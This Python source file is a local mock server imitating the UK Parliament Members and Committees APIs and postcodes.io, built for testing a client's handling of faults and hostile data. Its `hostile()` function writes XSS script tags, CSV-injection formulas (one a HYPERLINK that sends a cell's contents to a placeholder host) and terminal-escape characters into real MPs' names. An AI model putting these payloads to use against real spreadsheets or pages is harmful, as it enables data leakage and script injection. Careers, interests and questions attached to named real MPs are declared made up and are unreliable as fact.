"""A local stand-in for the Members API, the Committees API and postcodes.io, on 127.0.0.1, for tests and benches.

It serves spec-shaped bodies (../shared/fixtures/members-api/ and committees-api/ OpenAPI specs, the recorded
search page and contact record) built from the embedded snapshot's 650 real MPs, their posts and the NHS sites'
postcodes. Opposition posts and committee memberships have no recorded bodies: they are built here, from real
members of the snapshot, in the shape the specs give. Faults are switched on per path to test each quirk:

    text_500     HTTP 500, text/plain "error code: 500" (as Parliament's CDN answers)
    no_charset   the normal body, Content-Type "application/json" without a charset
    truncated    the first half of the normal body, with a matching Content-Length
    reset        the connection closed with a TCP reset, no response
    too_many     HTTP 429 with Retry-After (seconds in `value`)
    stall        the normal body after `value` seconds (a client timeout)

and the hostile ones, a source that is broken or malicious rather than unlucky:

    huge         `value` bytes of valid JSON (a short body padded with spaces), with no Content-Length: the
                 client can only stop it by counting
    deep         JSON arrays nested `value` levels deep
    drip         the normal body trickled 64 bytes at a time, `value` seconds apart: each read arrives within
                 the client's read timeout, so only an overall deadline stops it

`hostile(world, kind)` makes the data itself hostile: wrong JSON types in member records, a truncated member
list, control characters, or script and formula text in names.

One server answers all three services (their paths do not collide), so one origin serves as all three.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

from outreach.members import Member
from outreach.snapshot import Snapshot

PAGE_CAP = 20  # the Members API caps `take` at 20
COMMITTEE_NAMES = {81: "Health and Social Care Committee", 135: "Science, Innovation and Technology Committee"}
# Party ids as the Members API numbers them (parties-stateoftheparties-commons.json and member-467.json).
PARTY_IDS = {"Labour": 15, "Labour (Co-op)": 15, "Conservative": 4, "Liberal Democrat": 17, "Speaker": 47}


@dataclass
class Fault:
    """A fault served to requests whose path (with query) contains `path`, `times` times (None: always)."""

    kind: str
    path: str
    times: int | None = 1
    value: float = 0.0


def _link(rel: str, href: str) -> dict[str, str]:
    return {"rel": rel, "href": href, "method": "GET"}


def member_value(member: Member, *, address_as: str | None = None, house: int = 1) -> dict[str, Any]:
    """Return a Members API `Member` object for a snapshot member (shape of members-search-house1-...json)."""
    return {
        "id": member.member_id,
        "nameListAs": member.list_as,
        "nameDisplayAs": member.name,
        "nameFullTitle": member.full_title,
        "nameAddressAs": address_as,
        "latestParty": {
            "id": PARTY_IDS.get(member.party, 1000 + sum(map(ord, member.party)) % 1000),
            "name": member.party,
            "abbreviation": member.party_abbreviation,
            "backgroundColour": "d50000",
            "foregroundColour": "ffffff",
            "isLordsMainParty": False,
            "isLordsSpiritualParty": False,
            "governmentType": 0,
            "isIndependentParty": member.party == "Independent",
        },
        "gender": member.gender,
        "latestHouseMembership": {
            "membershipFrom": member.constituency,
            "membershipFromId": member.constituency_id,
            "house": house,
            "membershipStartDate": f"{member.member_since.isoformat()}T00:00:00" if member.member_since else None,
            "membershipEndDate": None,
            "membershipEndReason": None,
            "membershipEndReasonNotes": None,
            "membershipEndReasonId": None,
            "membershipStatus": {
                "statusIsActive": True,
                "statusDescription": "Current Member",
                "statusNotes": None,
                "statusId": 0,
                "status": 0,
                "statusStartDate": "2024-07-04T00:00:00",
            },
        },
        "thumbnailUrl": f"https://members-api.parliament.uk/api/Members/{member.member_id}/Thumbnail",
    }


def peer_value(member_id: int, name: str, party: str = "Labour") -> dict[str, Any]:
    """Return a Members API `Member` object for a member of the Lords (a post holder not in the Commons list)."""
    return {
        "id": member_id,
        "nameListAs": name,
        "nameDisplayAs": name,
        "nameFullTitle": f"The {name}" if name.startswith("Lord ") else name,
        "nameAddressAs": None,
        "latestParty": {"id": PARTY_IDS.get(party, 15), "name": party, "abbreviation": "Lab"},
        "gender": "",
        "latestHouseMembership": {"membershipFrom": "Life peer", "house": 2, "membershipStartDate": None},
        "thumbnailUrl": None,
    }


def _office(kind: str, lines: tuple[str, ...], email: str | None, type_id: int) -> dict[str, Any]:
    street = list(lines[:-1]) if lines else []
    entry: dict[str, Any] = {
        "type": kind,
        "typeDescription": None,
        "typeId": type_id,
        "isPreferred": False,
        "isWebAddress": False,
        "notes": None,
        "postcode": lines[-1] if lines else None,
        "phone": "020 7219 3000" if kind == "Parliamentary office" else None,
        "fax": None,
        "email": email,
        "website": None,
    }
    for number in range(1, 6):
        entry[f"line{number}"] = street[number - 1] if number <= len(street) else None
    return entry


def contact_entries(member: Member) -> list[dict[str, Any]]:
    """Return a contact record's `value` list for a snapshot member (shape of member-4514-contact...json)."""
    entries = [_office("Parliamentary office", member.parliamentary_address, member.email, 1)]
    if member.constituency_office:
        entries.append(_office("Constituency office", member.constituency_office, None, 4))
    else:
        # Many records hold a label and a phone number, not a postal address (data/README.md).
        label = _office("Constituency office", (), None, 4)
        label["line1"] = "Constituency office"
        entries.append(label)
    entries.append(
        {
            "type": "Website",
            "typeId": 6,
            "isPreferred": False,
            "isWebAddress": True,
            "line1": f"https://www.example.org.uk/{member.member_id}",
        }
    )
    return entries


def address_as(member: Member) -> str | None:
    """Return a nameAddressAs for about 30% of members (it is null for ~70%), in the forms MNIS uses."""
    if member.member_id == 467:
        return "Sir Lindsay"  # member-467.json
    if member.member_id == 172:
        return "Ms Abbott"  # members-search-house1-current-skip0-take3.json
    if member.member_id % 10 >= 3:
        return None
    first = member.name.split()
    if first[0] in ("Sir", "Dame") and len(first) > 1:
        return f"{first[0]} {first[1]}"
    if first[0] in ("Dr", "Mr", "Mrs", "Ms", "Miss"):
        return f"{first[0]} {member.surname}"
    return {"M": "Mr ", "F": "Ms "}.get(member.gender, "") + member.surname


@dataclass
class World:
    """Everything the server answers with; tests change it between refreshes."""

    members: dict[int, dict[str, Any]] = field(default_factory=dict)  # id -> Member value, current Commons
    contacts: dict[int, list[dict[str, Any]]] = field(default_factory=dict)
    histories: dict[int, list[dict[str, Any]]] = field(default_factory=dict)  # id -> houseMembershipHistory
    government: list[dict[str, Any]] = field(default_factory=list)  # GovernmentOppositionPost values
    opposition: list[dict[str, Any]] = field(default_factory=list)
    committees: dict[int, list[tuple[int, bool]]] = field(default_factory=dict)  # id -> [(mnisId, isChair)]
    postcodes: dict[str, tuple[str, str] | None] = field(default_factory=dict)  # key -> (ONS code, name) or None
    people: dict[int, dict[str, Any]] = field(default_factory=dict)  # every Member value, Lords included
    # A member's record, by id: the `value` of each endpoint (None: `{"value": null}`); a member absent: 404.
    experience: dict[int, list[dict[str, Any]] | None] = field(default_factory=dict)
    focus: dict[int, list[dict[str, Any]] | None] = field(default_factory=dict)
    interests: dict[int, list[dict[str, Any]] | None] = field(default_factory=dict)
    spokespersons: list[dict[str, Any]] = field(default_factory=list)  # GovernmentOppositionPost values
    questions: list[dict[str, Any]] = field(default_factory=list)  # QuestionsViewModel values
    questions_page_cap: int = 100  # the most questions a search page holds, whatever `take` asks

    def person(self, member_id: int) -> dict[str, Any]:
        """Return a Member value for anyone the world knows."""
        return self.members.get(member_id) or self.people[member_id]

    def post(
        self,
        kind: str,
        post_id: int,
        name: str,
        department: str,
        holders: list[tuple[int, str]],
        *,
        ended: list[tuple[int, str, str]] = (),  # type: ignore[assignment]
    ) -> None:
        """Add a post with its current holders [(member id, start date)] and past ones [(id, start, end)]."""
        value = {
            "type": 0 if kind == "government" else 1,
            "name": name,
            "hansardName": name,
            "id": post_id,
            "postHolders": [
                {
                    "member": {"value": self.person(member_id), "links": [_link("self", f"/Members/{member_id}")]},
                    "startDate": f"{start}T00:00:00",
                    "endDate": None,
                    "layingMinisterName": None,
                    "isPaid": kind == "government",
                }
                for member_id, start in holders
            ]
            + [
                {
                    "member": {"value": self.person(member_id), "links": []},
                    "startDate": f"{start}T00:00:00",
                    "endDate": f"{end}T00:00:00",
                    "layingMinisterName": None,
                    "isPaid": True,
                }
                for member_id, start, end in ended
            ],
            "governmentDepartments": [{"id": 17 + len(department), "name": department, "url": None, "imageUrl": None}]
            if department
            else [],
            "createdWhen": "2024-07-05T00:00:00",
            "order": post_id,
        }
        {"government": self.government, "opposition": self.opposition, "spokesperson": self.spokespersons}[kind].append(
            value
        )


# Real Conservative frontbenchers in the snapshot, in shadow posts (opposition posts have no recorded bodies).
SHADOW_POSTS = (
    (4597, "Leader of the Opposition", "", "2024-11-02"),
    (
        4032,
        "Shadow Secretary of State for Health and Social Care",
        "Department of Health and Social Care",
        "2024-11-05",
    ),
    (4592, "Shadow Minister (Health and Social Care)", "Department of Health and Social Care", "2024-11-05"),
    (3935, "Shadow Chancellor of the Exchequer", "HM Treasury", "2024-11-04"),
    (
        4484,
        "Shadow Secretary of State for Science, Innovation and Technology",
        "Department for Science, Innovation and Technology",
        "2024-11-05",
    ),
    (
        4647,
        "Shadow Minister (Science, Innovation and Technology)",
        "Department for Science, Innovation and Technology",
        "2024-11-05",
    ),
    (4503, "Shadow Home Secretary", "Home Office", "2024-11-04"),
    (4066, "Shadow Foreign Secretary", "Foreign, Commonwealth and Development Office", "2024-11-04"),
    (4874, "Shadow Secretary of State for Business and Trade", "Department for Business and Trade", "2024-11-04"),
)
# Committee members are drawn from the snapshot's members (no recorded bodies exist); the Science, Innovation and
# Technology Committee's chair is its real chair, Dame Chi Onwurah (4124); the health committee's chair is the first
# member drawn.
COMMITTEE_CHAIRS: dict[int, int | None] = {81: None, 135: 4124}


def world_from_snapshot(snapshot: Snapshot) -> World:
    """Return a world holding the snapshot's members, contacts, posts, shadow posts, committees and postcodes."""
    world = World()
    for member in snapshot.members:
        value = member_value(member, address_as=address_as(member))
        world.members[member.member_id] = value
        world.people[member.member_id] = value
        world.contacts[member.member_id] = contact_entries(member)
    for post in snapshot.posts:
        if post.member_id not in world.people:
            world.people[post.member_id] = peer_value(post.member_id, post.name)
    by_title: dict[tuple[str, str], list[Any]] = {}
    for post in snapshot.posts:
        by_title.setdefault((post.post, post.department_name), []).append(post)
    for number, ((title, department), posts) in enumerate(sorted(by_title.items()), 1):
        holders = [(p.member_id, (p.start_date.isoformat() if p.start_date else "2024-07-05")) for p in posts]
        world.post("government", number, title, department, holders)
    for number, (member_id, title, department, start) in enumerate(SHADOW_POSTS, 500):
        world.post("opposition", number, title, department, [(member_id, start)])
    ordered = sorted(snapshot.members, key=lambda m: m.member_id)
    for committee_id, chair in COMMITTEE_CHAIRS.items():
        others = [m.member_id for m in ordered if m.party in ("Labour", "Conservative", "Liberal Democrat")]
        picked = [m for m in others[committee_id % 7 :: 37] if m != chair][:10]
        head = chair if chair is not None else picked.pop(0)
        world.committees[committee_id] = [(head, True)] + [(m, False) for m in picked]
    for site in snapshot.sites:
        if site.postcode:
            seat = snapshot.constituencies[site.constituency_code]
            world.postcodes[site.postcode.replace(" ", "").upper()] = (seat.code, seat.name)
    add_records(world, snapshot)
    return world


# A member's record has no recorded bodies: the server builds it here, in the specs' shapes, from the snapshot's
# real members. What it says of them is made up for tests and benches (careers, focus, interests and questions
# are given by member id), never true of the member and never shipped.
CAREERS = (
    ("Non political", "Therapeutic radiographer", "Leeds Teaching Hospitals NHS Trust"),
    ("Non political", "Nurse", "NHS"),
    ("Non political", "Solicitor", None),
    ("Non political", "Teacher", "Secondary school"),
    ("Political", "Councillor", "City Council"),
    ("Non political", "Medical physicist", "Christie NHS Foundation Trust"),
    ("Non political", "Software engineer", None),
)
FOCUS = (
    {"category": "Political Interests", "focus": ["Health", "Science and technology"]},
    {"category": "Political Interests", "focus": ["Housing", "Transport"]},
    {"category": "Countries of Interest", "focus": ["Ireland", "Kenya"]},
    {"category": "Political Interests", "focus": None},
)
INTERESTS = (
    ("Employment and earnings", "Payments from the Royal College of Radiologists for a lecture on cancer care."),
    ("Shareholdings", "A holding in a company making MRI scanner parts."),
    ("Gifts, benefits and hospitality from UK sources", "Two tickets to a football match, value £300."),
    ("Visits outside the UK", "A visit to a trade fair; costs met by a chamber of commerce."),
)
QUESTIONS = (  # (search terms it holds, heading, text, answering body)
    (
        "Radiotherapy: Waiting Lists",
        "To ask the Secretary of State for Health and Social Care, what steps he is taking to reduce waiting times "
        "for radiotherapy.",
        "Department of Health and Social Care",
    ),
    (
        "Linear Accelerators",
        "To ask the Secretary of State for Health and Social Care, how many linear accelerators in the NHS are over "
        "ten years old.",
        "Department of Health and Social Care",
    ),
    (
        "Diagnosis: MRI and CT Scanner Capacity",
        "To ask the Secretary of State for Health and Social Care, what MRI and CT scanner capacity community "
        "diagnostic centres added in 2025.",
        "Department of Health and Social Care",
    ),
    (
        "Medical Radioisotopes: Supply",
        "To ask the Secretary of State for Energy Security and Net Zero, what steps he is taking to secure the supply "
        "of medical radioisotopes.",
        "Department for Energy Security and Net Zero",
    ),
    (
        "Clinical Scientists: Training",
        "To ask the Secretary of State for Health and Social Care, how many clinical scientists began training in "
        "medical physics and clinical engineering in each of the last two years.",
        "Department of Health and Social Care",
    ),
    (
        "Roads: Potholes",
        "To ask the Secretary of State for Transport, how much funding has been allocated to repair potholes.",
        "Department for Transport",
    ),
)
# Departments each Lords whip answers for as a government spokesperson (made up, in the API's names).
SPOKESPERSON_DEPARTMENTS = (
    ("Department of Health and Social Care", "Department for Science, Innovation and Technology"),
    ("Ministry of Defence", "Department for Transport"),
    ("HM Treasury", "Department for Work and Pensions"),
    ("Department for Education", "Department for Culture, Media and Sport"),
    ("Home Office", "Ministry of Justice"),
    ("Department for Energy Security and Net Zero", "Department for Environment, Food and Rural Affairs"),
    ("Foreign, Commonwealth and Development Office", "Department for Business and Trade"),
)


def _experience(member_id: int) -> list[dict[str, Any]] | None:
    """Return a member's Experience `value`: one or two careers, or None."""
    if member_id % 9 == 4:
        return None
    picked = [CAREERS[member_id % len(CAREERS)]] + ([CAREERS[member_id // 7 % len(CAREERS)]] if member_id % 3 else [])
    return [
        {
            "id": member_id * 10 + number,
            "type": kind,
            "typeId": 1 if kind == "Political" else 2,
            "title": title,
            "organisation": organisation,
            "startMonth": None,
            "startYear": 1995 + member_id % 15,
            "endMonth": None,
            "endYear": None if number else 2010 + member_id % 12,
        }
        for number, (kind, title, organisation) in enumerate(picked)
    ]


def _interests(member_id: int) -> list[dict[str, Any]]:
    """Return a member's RegisteredInterests `value`: one category, sometimes with a nested and a deleted entry."""
    category, text = INTERESTS[member_id % len(INTERESTS)]
    entry: dict[str, Any] = {
        "id": member_id,
        "interest": text,
        "createdWhen": "2024-09-02T00:00:00",
        "lastAmendedWhen": None,
        "deletedWhen": None,
        "isCorrection": False,
        "childInterests": [],
    }
    if member_id % 5 == 0:
        child = {
            **entry,
            "id": -member_id,
            "interest": "Received £500 on 1 May 2025. Hours: 2 hrs.",
            "childInterests": None,
        }
        deleted = {
            **child,
            "id": -member_id - 1,
            "interest": "An entry since removed.",
            "deletedWhen": "2025-06-01T00:00:00",
        }
        entry["childInterests"] = [child, deleted]
    return [{"id": 1 + member_id % 4, "name": category, "sortOrder": 1, "interests": [entry]}]


def _question(number: int, member_id: int, house: str, day: str) -> dict[str, Any]:
    """Return a QuestionsViewModel value asked by a member on a day (YYYY-MM-DD)."""
    heading, text, body = QUESTIONS[number % len(QUESTIONS)]
    return {
        "id": 1_500_000 + number,
        "askingMemberId": member_id,
        "askingMember": None,
        "house": house,
        "memberHasInterest": False,
        "dateTabled": f"{day}T00:00:00",
        "dateForAnswer": f"{day}T00:00:00",
        "uin": f"{'HL' if house == 'Lords' else ''}{number * 37 % 90000 + 1000}",
        "questionText": text,
        "answeringBodyId": 17,
        "answeringBodyName": body,
        "isWithdrawn": False,
        "isNamedDay": False,
        "groupedQuestions": [],
        "answerIsHolding": None,
        "answerIsCorrection": None,
        "answeringMemberId": None,
        "answeringMember": None,
        "correctingMemberId": None,
        "correctingMember": None,
        "dateAnswered": None,
        "answerText": None,
        "originalAnswerText": None,
        "comparableAnswerText": None,
        "dateAnswerCorrected": None,
        "dateHoldingAnswer": None,
        "attachmentCount": 0,
        "heading": heading,
        "attachments": [],
        "groupedQuestionsDates": [],
    }


def add_records(world: World, snapshot: Snapshot) -> None:
    """Give the world's members their records, the Lords whips spokesperson posts, and written questions."""
    for member_id in sorted(world.people):
        if member_id % 11 != 0:
            world.experience[member_id] = _experience(member_id)
        world.focus[member_id] = [FOCUS[member_id % len(FOCUS)]] if member_id % 4 else ([] if member_id % 8 else None)
        if member_id % 6 != 1:
            world.interests[member_id] = _interests(member_id)
    whips = sorted({post.member_id for post in snapshot.posts if post.department == "Whip Lords"})
    for number, member_id in enumerate(whips):
        departments = SPOKESPERSON_DEPARTMENTS[number % len(SPOKESPERSON_DEPARTMENTS)]
        world.post("spokesperson", 900 + number, "Government Spokesperson", departments[0], [(member_id, "2024-07-11")])
        world.spokespersons[-1]["governmentDepartments"] += [{"id": 90 + number, "name": departments[1]}]
    lords = sorted({post.member_id for post in snapshot.posts if post.house == "Lords"})
    askers = [m.member_id for m in sorted(snapshot.members, key=lambda m: m.member_id)][::5] + lords[::3] + [99_001]
    for number, member_id in enumerate(askers * 2):
        day = f"{2024 + number % 3}-{1 + number % 12:02d}-{1 + number % 27:02d}"
        house = "Lords" if member_id in lords else "Commons"
        world.questions.append(_question(number, member_id, house, min(max(day, "2024-06-20"), "2026-11-20")))


RECORD_ENDPOINTS = {"Experience": "experience", "Focus": "focus", "RegisteredInterests": "interests"}

HOSTILE_KINDS = ("wrong_types", "truncated_list", "control_characters", "script_and_formula")
# Names a careless or malicious source might send: terminal escapes, a bell, a bidi override, markup and
# spreadsheet formulae (OWASP's CSV injection examples).
CONTROL_NAME = "Diane\x1b[2J\x1b]0;owned\x07 Abbott\u202e"
SCRIPT_NAMES = {
    5131: "<script>alert('x')</script> Jack Abbott",
    4212: '=HYPERLINK("http://example.invalid/?"&A1,"Debbie Abrahams")',
    4357: "@SUM(1+1) Kirsty Blackman",
    4359: "+44 Stephen Kinnock",
}


def hostile(world: World, kind: str) -> list[int]:
    """Make the world's answers hostile of one kind; return the ids of the members it touched."""
    members = world.members
    if kind == "wrong_types":
        members[172]["nameDisplayAs"] = ["Diane", "Abbott"]  # a text field as an array
        members[5131]["latestParty"] = [{"name": "Labour"}]  # an object as an array
        members[4212]["id"] = "4212"  # an id as a string
        return [172, 5131, 4212]
    if kind == "truncated_list":
        # The list stops after 550 of 650, as a proxy that cut the answer short would leave it; totalResults
        # agrees with what is served, so paging alone cannot tell.
        cut = sorted(members.values(), key=lambda value: (value["nameListAs"], value["id"]))[550:]
        for value in cut:
            del members[value["id"]]
        return [value["id"] for value in cut]
    if kind == "control_characters":
        members[172]["nameDisplayAs"] = CONTROL_NAME
        members[172]["nameFullTitle"] = f"Ms {CONTROL_NAME} MP"
        return [172]
    if kind == "script_and_formula":
        for member_id, name in SCRIPT_NAMES.items():
            members[member_id]["nameDisplayAs"] = name
            members[member_id]["nameFullTitle"] = f"{name} MP"
        return list(SCRIPT_NAMES)
    raise ValueError(f"no hostile kind {kind!r}: one of {', '.join(HOSTILE_KINDS)}")


class _Server(ThreadingHTTPServer):
    # The standard backlog of 5 drops the SYNs of a client opening 24 connections at once, and each dropped
    # one costs a second's retransmission: a real service's backlog is far larger.
    request_queue_size = 128

    def handle_error(self, request: Any, client_address: Any) -> None:
        # A client that was killed or gave up mid-answer (the crash and deadline tests) is expected, not a fault.
        if isinstance(sys.exc_info()[1], ConnectionError):
            return
        super().handle_error(request, client_address)


class ParliamentServer:
    """The three services on one ThreadingHTTPServer bound to 127.0.0.1 on a free port."""

    def __init__(self, world: World, *, latency: float = 0.0) -> None:
        self.world = world
        self.latency = latency
        self.faults: list[Fault] = []
        self.log: list[str] = []
        self.lock = threading.Lock()
        self.httpd = _Server(("127.0.0.1", 0), _handler(self))
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def start(self) -> ParliamentServer:
        """Start serving in a background thread."""
        self.thread.start()
        return self

    def stop(self) -> None:
        """Stop serving and close the socket."""
        self.httpd.shutdown()
        self.httpd.server_close()

    def fault(self, kind: str, path: str, times: int | None = 1, value: float = 0.0) -> None:
        """Switch a fault on for requests whose path contains `path`."""
        with self.lock:
            self.faults.append(Fault(kind, path, times, value))

    def requests(self, containing: str = "") -> list[str]:
        """Return the requests served so far ("GET /api/..."), those containing a text when given."""
        with self.lock:
            return [line for line in self.log if containing in line]

    def clear_log(self) -> None:
        """Forget the requests served so far."""
        with self.lock:
            self.log.clear()

    def take_fault(self, path: str) -> Fault | None:
        """Return the first fault for a path and use one of its times."""
        with self.lock:
            for fault in self.faults:
                if fault.path in path and (fault.times is None or fault.times > 0):
                    if fault.times is not None:
                        fault.times -= 1
                    return fault
        return None

    # ------------------------------------------------------------------ answers

    def answer(self, method: str, path: str, query: dict[str, list[str]], body: bytes) -> tuple[int, Any]:
        """Return (status, JSON value) for a request."""
        world = self.world
        parts = [part for part in path.split("/") if part]
        if method == "POST" and parts == ["postcodes"]:
            return self._postcodes(body)
        if parts[:2] == ["api", "Members"]:
            if parts[2:] == ["Search"]:
                return 200, self._search(query)
            if parts[2:] == ["History"]:
                ids = [int(text) for text in query.get("ids", [])]
                return 200, [
                    {
                        "value": {
                            "id": member_id,
                            "thumbnailUrl": None,
                            "partyHistory": [],
                            "nameHistory": [],
                            "houseMembershipHistory": world.histories.get(member_id, []),
                        },
                        "links": [],
                    }
                    for member_id in ids
                ]
            if len(parts) == 4 and parts[3] == "Contact" and parts[2].isdigit():
                member_id = int(parts[2])
                if member_id not in world.contacts:
                    return 404, {"status": 404, "title": "Not Found"}
                links = [_link("self", f"/Members/{member_id}/Contact"), _link("overview", f"/Members/{member_id}")]
                return 200, {"value": world.contacts[member_id], "links": links}
            if len(parts) == 4 and parts[2].isdigit() and parts[3] in RECORD_ENDPOINTS:
                found = getattr(world, RECORD_ENDPOINTS[parts[3]])
                if int(parts[2]) not in found:
                    return 404, {"type": "https://tools.ietf.org/html/rfc7231#section-6.5.4", "status": 404}
                return 200, {"value": found[int(parts[2])], "links": [_link("self", path.removeprefix("/api"))]}
        if parts == ["api", "Posts", "Spokespersons"]:
            return 200, [{"value": post, "links": []} for post in world.spokespersons]
        if parts == ["api", "writtenquestions", "questions"]:
            return 200, self._questions(query)
        if parts == ["api", "Posts", "GovernmentPosts"]:
            return 200, [{"value": post, "links": []} for post in world.government]
        if parts == ["api", "Posts", "OppositionPosts"]:
            return 200, [{"value": post, "links": []} for post in world.opposition]
        if parts[:2] == ["api", "Committees"] and len(parts) >= 3 and parts[2].isdigit():
            committee_id = int(parts[2])
            if committee_id not in world.committees:
                return 404, {"status": 404}
            if len(parts) == 3:
                return 200, {"id": committee_id, "name": COMMITTEE_NAMES[committee_id], "house": "Commons"}
            if parts[3:] == ["Members"]:
                return 200, self._committee_members(committee_id, query)
        return 404, {"status": 404, "title": "Not Found", "path": path}

    def _search(self, query: dict[str, list[str]]) -> dict[str, Any]:
        skip = int(query.get("skip", ["0"])[0])
        take = min(PAGE_CAP, int(query.get("take", ["20"])[0]))
        ordered = sorted(self.world.members.values(), key=lambda value: (value["nameListAs"], value["id"]))
        page = ordered[skip : skip + take]
        this = f"/Members/Search?skip={skip}&take={take}"
        # On the last page, page.next points back at the page itself (members-search-snommoc-edited.json).
        following = f"/Members/Search?skip={skip + take}&take={take}" if skip + take < len(ordered) else this
        return {
            "items": [
                {
                    "value": value,
                    "links": [
                        _link("self", f"/Members/{value['id']}"),
                        _link("contactInformation", f"/Members/{value['id']}/Contact"),
                    ],
                }
                for value in page
            ],
            "totalResults": len(ordered),
            "resultContext": "",
            "skip": skip,
            "take": take,
            "links": [
                _link("self", this),
                _link("page.next", following),
                _link("page.previous", f"/Members/Search?skip={max(0, skip - take)}&take={take}"),
            ],
            "resultType": 3,
        }

    def _questions(self, query: dict[str, list[str]]) -> dict[str, Any]:
        """Return a Written Questions search page: questions holding the term, tabled on or after the date."""
        term = query.get("searchTerm", [""])[0].casefold()
        since = query.get("tabledWhenFrom", [""])[0][:10]
        skip = int(query.get("skip", ["0"])[0])
        take = min(self.world.questions_page_cap, int(query.get("take", ["20"])[0]))
        found = [
            value
            for value in self.world.questions
            if term in f"{value['heading']} {value['questionText']}".casefold()
            and str(value["dateTabled"])[:10] >= since
        ]
        return {
            "totalResults": len(found),
            "results": [
                {"value": value, "links": [_link("self", f"/api/writtenquestions/questions/{value['id']}")]}
                for value in found[skip : skip + take]
            ],
        }

    def _committee_members(self, committee_id: int, query: dict[str, list[str]]) -> dict[str, Any]:
        skip = int(query.get("Skip", ["0"])[0])
        take = int(query.get("Take", ["30"])[0])
        everyone = self.world.committees[committee_id]
        items = []
        for member_id, is_chair in everyone[skip : skip + take]:
            person = self.world.person(member_id)
            role = {"id": 1 if is_chair else 2, "name": "Chair" if is_chair else "Member", "isChair": is_chair}
            items.append(
                {
                    "id": 10_000 + member_id,
                    "personId": None,
                    "name": person["nameDisplayAs"],
                    "photoUrl": None,
                    "memberInfo": {
                        "memberFrom": person["latestHouseMembership"]["membershipFrom"],
                        "party": person["latestParty"]["name"],
                        "partyColour": "d50000",
                        "mnisId": member_id,
                        "isChair": is_chair,
                        "listAs": person["nameListAs"],
                        "displayAs": person["nameDisplayAs"],
                        "fullTitle": person["nameFullTitle"],
                        "addressAs": person["nameAddressAs"],
                        "house": "Commons",
                        "isCurrent": True,
                    },
                    "isLayMember": False,
                    "roles": [
                        {
                            "startDate": "2024-10-21T00:00:00",
                            "endDate": None,
                            "role": {**role, "roleType": {"id": 1, "name": "Committee"}},
                            "exOfficio": False,
                            "alternate": False,
                            "coOpted": False,
                        }
                    ],
                }
            )
        return {"items": items, "totalResults": len(everyone), "itemsPerPage": take, "links": []}

    def _postcodes(self, body: bytes) -> tuple[int, Any]:
        asked = json.loads(body).get("postcodes", [])
        if len(asked) > 100:
            return 400, {
                "status": 400,
                "error": "Too many postcodes submitted. Up to 100 postcodes can be bulk requested at a time",
            }
        results = []
        for postcode in asked:
            found = self.world.postcodes.get(postcode.replace(" ", "").upper())
            results.append(
                {
                    "query": postcode,
                    "result": None
                    if found is None
                    else {
                        "postcode": postcode,
                        "parliamentary_constituency_2024": found[1],
                        "codes": {"parliamentary_constituency_2024": found[0]},
                    },
                }
            )
        return 200, {"status": 200, "result": results}


def _handler(server: ParliamentServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's name
            return

        def _serve(self, method: str) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            split = urlsplit(self.path)
            with server.lock:
                server.log.append(f"{method} {self.path}")
            if server.latency:
                time.sleep(server.latency)
            fault = server.take_fault(self.path)
            if fault is not None and fault.kind == "reset":
                # SO_LINGER 0: close() sends a TCP reset, as a dropped connection looks to the client.
                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                self.close_connection = True
                self.connection.close()
                return
            if fault is not None and fault.kind == "stall":
                time.sleep(fault.value)
            if fault is not None and fault.kind == "text_500":
                self._send(500, b"error code: 500", "text/plain")
                return
            if fault is not None and fault.kind == "too_many":
                self._send(429, b'{"status": 429}', "application/json", {"Retry-After": f"{fault.value:g}"})
                return
            if fault is not None and fault.kind == "huge":
                self._send_huge(int(fault.value))
                return
            if fault is not None and fault.kind == "deep":
                depth = int(fault.value)
                self._send(200, b"[" * depth + b"]" * depth, "application/json")
                return
            status, value = server.answer(method, split.path, parse_qs(split.query), body)
            payload = json.dumps(value, ensure_ascii=False).encode("utf-8")
            content_type = "application/json; charset=utf-8"
            if fault is not None and fault.kind == "no_charset":
                content_type = "application/json"
            if fault is not None and fault.kind == "truncated":
                payload = payload[: len(payload) // 2]
            self._send(status, payload, content_type, drip=fault.value if fault and fault.kind == "drip" else 0.0)

        def _send(
            self,
            status: int,
            payload: bytes,
            content_type: str,
            headers: dict[str, str] | None = None,
            *,
            drip: float = 0.0,
        ) -> None:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(payload)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            if not drip:
                self.wfile.write(payload)
                return
            try:
                for start in range(0, len(payload), 64):
                    self.wfile.write(payload[start : start + 64])
                    self.wfile.flush()
                    time.sleep(drip)
            except OSError:
                self.close_connection = True  # the client gave up: stop trickling

        def _send_huge(self, size: int) -> None:
            # No Content-Length: the body ends when the connection closes, so only counting bytes can stop it.
            self.send_response(200)
            self.send_header("Content-Type", "application/json; charset=utf-8")
            self.send_header("Connection", "close")
            self.end_headers()
            self.close_connection = True
            head = b'{"items": [], "totalResults": 0}'
            try:
                self.wfile.write(head)
                block = b" " * 65536
                for _ in range((size - len(head)) // len(block)):
                    self.wfile.write(block)
            except OSError:
                return  # the client stopped reading, as it should

        def do_GET(self) -> None:  # noqa: N802 - the base class's name
            self._serve("GET")

        def do_POST(self) -> None:  # noqa: N802 - the base class's name
            self._serve("POST")

    return Handler


@contextmanager
def serving(world: World, *, latency: float = 0.0) -> Iterator[ParliamentServer]:
    """Run a server for the length of a with-block."""
    server = ParliamentServer(world, latency=latency).start()
    try:
        yield server
    finally:
        server.stop()
